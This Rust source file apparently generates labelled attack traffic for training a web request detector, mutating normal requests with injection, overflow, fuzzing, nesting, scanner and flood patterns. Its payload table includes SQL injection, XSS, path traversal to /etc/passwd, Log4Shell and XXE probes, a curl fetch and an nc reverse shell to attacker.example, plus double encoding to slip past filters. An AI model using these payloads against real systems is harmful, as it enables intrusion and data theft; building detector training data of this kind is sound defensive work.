//! What attackers make of a normal request; some of it says nothing to a lexical check.

use super::Random;
use super::fields::form_encoded;
use crate::train::data::RecordedRequest;

const INJECTIONS: [(&str, &str); 16] = [
    ("sqli", "' or 1=1--"),
    ("sqli", "1 union select name,secret from people"),
    ("sqli", "1) and sleep(5)#"),
    ("sqli", "x'||(select version())||'"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "\"><img src=x onerror=alert(document.domain)>"),
    ("xss", "javascript:alert(1)"),
    ("path_traversal", "../../../../../../etc/passwd"),
    ("path_traversal", "..\\..\\windows\\win.ini"),
    ("path_traversal", "....//....//web-inf/web.xml"),
    ("command_injection", "; cat /etc/passwd"),
    ("command_injection", "$(curl http://attacker.example/x)"),
    ("command_injection", "| nc -e /bin/sh attacker.example 4444"),
    ("probe", "${jndi:ldap://attacker.example/a}"),
    ("probe", "{{7*7}}"),
    ("probe", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]>"),
];

/// Turns a normal request into an attack and labels it.
pub(super) fn spoil(request: &mut RecordedRequest, random: &mut Random) {
    let label = match random.below(10) {
        0..=3 => inject(request, random),
        4 => overflow(request, random),
        5 => pollute(request, random),
        6 => fuzz(request, random),
        7 => nest(request, random),
        8 => scan(request, random),
        _ => flood(request, random),
    };
    request.attack = Some(label.to_owned());
}

fn inject(request: &mut RecordedRequest, random: &mut Random) -> &'static str {
    let (label, text) = INJECTIONS[random.below(INJECTIONS.len())];
    // Double encoding, to get past a filter that decodes once.
    let encoded = if random.chance(0.25) { form_encoded(&form_encoded(text)) } else { form_encoded(text) };
    match random.below(4) {
        0 if !request.body.is_empty() => request.body.push_str(&format!("&x={encoded}")),
        1 => request.path.push_str(&format!("/{}", encoded.replace('+', "%20"))),
        2 => request.headers.push(("x-forwarded-host".to_owned(), text.to_owned())),
        _ => add_query(request, &format!("id={encoded}")),
    }
    label
}

/// One value of a thousand letters.
fn overflow(request: &mut RecordedRequest, random: &mut Random) -> &'static str {
    let length = random.between(600, 4_000) as usize;
    let filler = ["A", "%00", "9", "%41%41"][random.below(4)].repeat(length / 2);
    if request.body.is_empty() || random.chance(0.5) {
        add_query(request, &format!("name={filler}"));
    } else {
        request.body.push_str(&filler);
    }
    "overflow"
}

/// The same parameter dozens of times, or parameters nobody knows.
fn pollute(request: &mut RecordedRequest, random: &mut Random) -> &'static str {
    for n in 0..random.between(20, 80) {
        add_query(request, &format!("p{}={}", n % 7, random.between(0, 99)));
    }
    "pollution"
}

/// Bytes that mean nothing, in a body that should be text.
fn fuzz(request: &mut RecordedRequest, random: &mut Random) -> &'static str {
    request.method = "POST".to_owned();
    request.content_type =
        Some(["application/octet-stream", "application/json", "text/xml"][random.below(3)].to_owned());
    request.body = (0..random.between(100, 1_500))
        .map(|_| char::from_u32(random.between(1, 0x2ff) as u32).unwrap_or('?'))
        .collect();
    "fuzz"
}

/// JSON far deeper than any form needs.
fn nest(request: &mut RecordedRequest, random: &mut Random) -> &'static str {
    let depth = random.between(20, 300) as usize;
    request.method = "POST".to_owned();
    request.content_type = Some("application/json".to_owned());
    request.body = format!("{}1{}", "{\"a\":[".repeat(depth), "]}".repeat(depth));
    "nesting"
}

/// A scanner looks for files that should not be there.
fn scan(request: &mut RecordedRequest, random: &mut Random) -> &'static str {
    let path = [
        "/wp-login.php",
        "/.git/config",
        "/phpmyadmin/index.php",
        "/backup.tar.gz.old",
        "/cgi-bin/test.cgi?x=/etc/passwd",
        "/.env.production",
        "/server-status",
        "/actuator/heapdump",
    ];
    request.path = path[random.below(path.len())].to_owned();
    request.query = None;
    request.headers.retain(|(name, _)| name == "host");
    request.headers.push((
        "user-agent".to_owned(),
        ["sqlmap/1.8", "Nikto/2.5", "Mozilla/5.00 (Nuclei)", "zgrab/0.x"][random.below(4)].to_owned(),
    ));
    request.client_rate_per_s = Some(random.lognormal(25.0, 0.6) as f32);
    "scanner"
}

/// A normal request, a hundred times a second.
fn flood(request: &mut RecordedRequest, random: &mut Random) -> &'static str {
    request.client_rate_per_s = Some(random.lognormal(90.0, 0.7) as f32);
    "flood"
}

fn add_query(request: &mut RecordedRequest, pair: &str) {
    let query = request.query.get_or_insert_default();
    if !query.is_empty() {
        query.push('&');
    }
    query.push_str(pair);
}
